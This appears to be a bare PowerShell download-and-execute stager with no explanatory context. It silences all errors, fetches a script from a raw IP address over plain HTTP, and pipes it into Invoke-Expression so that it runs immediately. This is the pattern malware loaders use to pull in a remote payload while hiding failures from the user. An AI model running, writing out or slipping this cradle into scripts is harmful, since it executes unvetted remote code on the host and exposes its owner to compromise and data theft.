$ErrorActionPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://198.51.100.9/s.ps1 | iex
